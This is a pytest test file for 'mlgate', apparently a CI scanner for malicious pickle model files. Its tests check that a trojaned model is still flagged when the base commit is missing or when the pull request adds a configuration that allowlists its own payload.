def test_a_missing_base_commit_means_the_default_configuration(tmp_path, monkeypatch, capsys):
    workspace, event = pull_request(tmp_path, {".mlgate.yaml": "ignore: [models]\n", "models/classifier.bin": TROJAN})
    event["pull_request"]["base"]["sha"] = "0" * 40
    code, lines, _ = scan_step(monkeypatch, capsys, workspace, event, select="models")
    assert code == 1
    assert ("error", "models/classifier.bin", None, "mlgate MOD001 pickle-dangerous-call [critical]") in annotations_of(lines)


@needs_wheelhouse
def test_pull_request_adding_a_config_that_allowlists_its_payload_still_fails(tmp_path, action_path, installed_action):
    workspace, event = pull_request(tmp_path, {".mlgate.yaml": SELF_ALLOWLISTING, "models/classifier.bin": TROJAN})
    run = run_action({}, workspace, event, action_path, tmp_path / "runner", installed=installed_action)

    assert [(step.name, step.returncode) for step in run.steps] == [("Install mlgate (dependencies pinned by hash)", 0), ("Scan", 1)], (
        run.log()
    )
    assert [(level, props.get("file"), props.get("line"), props.get("title")) for level, props, _ in run.annotations()] == [
        ("error", ".mlgate.yaml", "1", "mlgate: configuration changed by this pull request"),
        ("error", "models/classifier.bin", None, "mlgate MOD001 pickle-dangerous-call [critical]"),
    ]
    assert run.outputs == {"findings": "1", "config-changes": "1", "sarif": ""}
    assert "### Configuration changed by this pull request" in run.summary
